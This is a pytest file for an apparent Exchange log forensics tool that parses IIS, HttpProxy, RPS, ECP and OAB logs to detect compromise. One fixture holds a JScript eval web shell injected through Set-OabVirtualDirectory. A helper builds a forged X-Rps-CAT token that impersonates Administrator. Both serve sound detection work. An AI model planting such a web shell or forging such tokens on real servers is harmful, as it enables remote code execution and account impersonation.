from __future__ import annotations

import base64
import io
from datetime import UTC, datetime

import pytest

from exhunt.artefacts.ecp import cmdlet_parameters, event_data, split_pairs
from exhunt.artefacts.exchange_csv import HTTPPROXY_FIELDS, EcpServerFormat, HttpProxyFormat, RpsHttpFormat
from exhunt.artefacts.formats import iter_records
from exhunt.artefacts.oab import OabGeneratorFormat
from exhunt.artefacts.reader import ErrorLog
from exhunt.artefacts.rps_token import decode_rps_cat
from exhunt.artefacts.timestamps import find_timestamp, parse_iso
from exhunt.artefacts.urls import cafe_request_id, decode_uri, full_uri, query_value
from exhunt.artefacts.w3c import W3CFormat
from test_log_samples import benign_httpproxy, httpproxy_log, httpproxy_row, iis_line, iis_log, rid


def records(fmt_cls: type, data: str | bytes) -> tuple[list, ErrorLog]:
    log = ErrorLog("f.log")
    raw = data.encode() if isinstance(data, str) else data
    return list(iter_records(io.BytesIO(raw), fmt_cls("f.log", log))), log


def test_w3c_fields_can_change_mid_file() -> None:
    text = iis_log([iis_line(**{"cs-uri-stem": "/a"})]) + (
        "#Software: Microsoft Internet Information Services 10.0\r\n"
        "#Fields: time c-ip cs-method cs-uri-stem sc-status s-computername\r\n"
        "#Date: 2021-03-04 00:00:00\r\n"
        "07:01:02 198.51.100.9 POST /ecp/y.js 200 EX01\r\n"
    )
    recs, log = records(W3CFormat, text)
    assert [r.get("cs-uri-stem") for r in recs] == ["/a", "/ecp/y.js"]
    assert recs[1].get("c-ip") == "198.51.100.9" and recs[1].get("s-computername") == "EX01"
    assert recs[1].timestamp == datetime(2021, 3, 4, 7, 1, 2, tzinfo=UTC)  # date from #Date
    assert recs[1].get("cs(User-Agent)") == "" and recs[1].line == 9
    assert not log.finish()


def test_w3c_plus_and_dash_decoding() -> None:
    recs, _ = records(W3CFormat, iis_log([iis_line(**{"cs(User-Agent)": "Mozilla/5.0 (X11)", "cs-uri-query": ""})]))
    assert recs[0].get("cs(User-Agent)") == "Mozilla/5.0 (X11)"
    assert recs[0].get("cs-uri-query") == ""
    assert recs[0].timestamp == datetime(2021, 3, 3, 6, 40, tzinfo=UTC)


def test_w3c_wrong_value_count_is_an_error_but_parsed() -> None:
    recs, log = records(W3CFormat, iis_log(["2021-03-03 06:00:00 10.0.0.1 GET /owa/"]))
    assert recs[0].get("cs-uri-stem") == "/owa/" and recs[0].get("sc-status") == ""
    assert "malformed" in log.finish()[0].message


def test_w3c_without_fields_uses_defaults_only_when_they_fit() -> None:
    recs, log = records(W3CFormat, iis_line() + "\r\n")
    assert recs[0].get("cs-uri-stem") == "/owa/"
    assert "default IIS field list" in log.finish()[0].message
    recs, log = records(W3CFormat, "garbage line here\r\n")
    assert recs == [] and "before any #Fields" in log.finish()[0].message


def test_httpproxy_fields_directive_and_quoting() -> None:
    row = httpproxy_row(UserAgent='Mozilla "quoted", with comma', UrlQuery="?a=1,b=2")
    recs, log = records(HttpProxyFormat, httpproxy_log([row]))
    assert recs[0].get("UserAgent") == 'Mozilla "quoted", with comma'
    assert recs[0].get("urlquery") == "?a=1,b=2"  # names are case-insensitive
    assert recs[0].timestamp == datetime(2021, 3, 3, 6, 40, tzinfo=UTC)
    assert recs[0].line == 6 and not log.finish()


def test_httpproxy_bare_header_and_other_column_order() -> None:
    fields = ["DateTime", "HttpStatus", "RequestId", "AnchorMailbox"]
    text = httpproxy_log(
        [f"2021-03-03T01:02:03.004Z,241,{rid(5)},ServerInfo~a]@x/ecp/"], fields=fields, bare_header=True
    )
    recs, _ = records(HttpProxyFormat, text)
    assert recs[0].get("AnchorMailbox") == "ServerInfo~a]@x/ecp/" and recs[0].get("HttpStatus") == "241"
    assert recs[0].timestamp == datetime(2021, 3, 3, 1, 2, 3, 4000, tzinfo=UTC)


def test_httpproxy_truncated_last_record() -> None:
    text = httpproxy_log(benign_httpproxy(3)) + httpproxy_row()[:60]
    recs, log = records(HttpProxyFormat, text)
    assert len(recs) == 4
    assert "cut short" in log.finish()[0].message


def test_httpproxy_without_header_falls_back_to_the_standard_columns() -> None:
    recs, log = records(HttpProxyFormat, httpproxy_row(HttpStatus="404") + "\r\n")
    assert recs[0].get("HttpStatus") == "404"
    assert "standard HttpProxy columns" in log.finish()[0].message


def test_httpproxy_header_names_74_columns() -> None:
    assert len(HTTPPROXY_FIELDS) == 74 and HTTPPROXY_FIELDS[-1] == "RoutingStatus"


def test_rps_http_without_header_uses_the_fixed_order_quietly() -> None:
    from test_log_samples import rps_log

    recs, log = records(RpsHttpFormat, rps_log([{"ClientInfo": "python-requests/2.28"}], header=False))
    assert recs[0].get("ClientInfo") == "python-requests/2.28"
    assert not log.finish()


ECP_LINE = (
    '2021-03-03T10:12:13.123Z,EX01,ECP.Request,"S:TIME=120;S:SID=S-1-5-21-1-2-3-500;'
    '\'S:CMD=Set-OabVirtualDirectory.ExternalUrl=\'\'http://f/<script language=""JScript"" runat=""server"">'
    'function Page_Load(){eval(Request[""klk123456""],""unsafe"");}</script>\'\'.Identity=\'\'3f1a\'\'\';'
    'S:REQID=abc;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory;S:BLD=15.1.2176.2"'
)


def test_ecp_event_data_and_cmdlet_parameters() -> None:
    text = "#Software: Microsoft Exchange Server\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n" + ECP_LINE
    recs, _ = records(EcpServerFormat, text)
    data = event_data(recs[0].get("EventData"))
    assert data["SID"] == "S-1-5-21-1-2-3-500" and data["REQID"] == "abc" and data["BLD"] == "15.1.2176.2"
    cmdlet, params = cmdlet_parameters(data["CMD"])
    assert cmdlet == "Set-OabVirtualDirectory"
    assert params[0][0] == "ExternalUrl"
    assert params[0][1].startswith('http://f/<script language="JScript"') and params[0][1].endswith("</script>")
    assert params[1] == ("Identity", "3f1a")


def test_ecp_pairs_tolerate_unbalanced_quotes() -> None:
    assert split_pairs("S:A=1;'S:B=x;y") == ["S:A=1", "S:B=x;y"]
    assert cmdlet_parameters("Get-Foo") == ("Get-Foo", [])
    assert cmdlet_parameters("Set-X.A='unterminated") == ("Set-X", [("A", "unterminated")])


def test_oab_lines_keep_the_message_and_find_the_time() -> None:
    text = (
        "2021-03-03T11:00:00.000Z Info Download failed and temporary file "
        "'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' needs to be removed\r\n"
        "3/4/2021 1:02:03 PM second line\r\n"
    )
    recs, _ = records(OabGeneratorFormat, text)
    assert recs[0].get("message").startswith("2021-03-03T11") and recs[0].timestamp.hour == 11
    assert recs[1].timestamp == datetime(2021, 3, 4, 13, 2, 3, tzinfo=UTC)


def test_timestamps() -> None:
    assert parse_iso("2021-03-03T06:49:43.699Z") == datetime(2021, 3, 3, 6, 49, 43, 699000, tzinfo=UTC)
    assert parse_iso("2021-03-03T08:49:43+02:00") == datetime(2021, 3, 3, 6, 49, 43, tzinfo=UTC)
    assert parse_iso("not a time") is None and parse_iso("") is None
    assert find_timestamp("x 2021-13-45 99:99:99") is None


def test_url_helpers() -> None:
    assert decode_uri("%2550owershell") == "Powershell"
    assert decode_uri("%25" * 50 + "41").startswith("%")  # bounded: stacked encodings stop decoding
    assert full_uri("/a", "?x") == "/a?x" and full_uri("/a", "x") == "/a?x" and full_uri("/a", "") == "/a"
    q = f"&CorrelationID=<empty>;&cafeReqId={rid(9)};&encoding=;"
    assert cafe_request_id(q) == rid(9)
    assert query_value("?@x/powershell/?X-Rps-CAT=abc%3D&Email=y", "x-rps-cat") == "abc%3D"


def rps_cat(upn: str, sid: str) -> str:
    """A token in the published structure: V, T, C, A, L, U, G tags with one-byte lengths."""

    def tag(t: bytes, s: str) -> bytes:
        return t + bytes([len(s)]) + s.encode()

    raw = (
        b"V\x01\x00"
        + tag(b"T", "Windows")
        + b"C\x00"
        + tag(b"A", "Kerberos")
        + tag(b"L", upn)
        + tag(b"U", sid)
        + b"G\x01\x00\x00\x00\x07\x00\x00\x00"
        + tag(b"", "S-1-5-32-544")[0:0]
        + bytes([12])
        + b"S-1-5-32-544"
        + b"E\x00\x00\x00\x00"
    )
    return base64.b64encode(raw).decode()


def test_x_rps_cat_is_decoded_to_the_impersonated_account() -> None:
    token = rps_cat("Administrator@corp.example", "S-1-5-21-1004336348-1177238915-682003330-500")
    got = decode_rps_cat(token.replace("=", "%3D").replace("+", "%2B"))
    assert got is not None
    assert got.user == "Administrator@corp.example"
    assert got.sid == "S-1-5-21-1004336348-1177238915-682003330-500"
    assert got.auth_type == "Kerberos"


@pytest.mark.parametrize("value", ["", "%%%", "bm90IGEgdG9rZW4=", "A" * 50000, "////"])
def test_x_rps_cat_garbage_gives_none_or_partial(value: str) -> None:
    got = decode_rps_cat(value)
    assert got is None or (got.user or got.sid)


def test_x_rps_cat_without_structure_falls_back_to_printable_strings() -> None:
    raw = b"\x00\x01junk\x02bob@corp.example\x03\x04S-1-5-21-9-9-9-1104\x05"
    got = decode_rps_cat(base64.b64encode(raw).decode().rstrip("="))
    assert got is not None and got.user == "bob@corp.example" and got.sid == "S-1-5-21-9-9-9-1104"
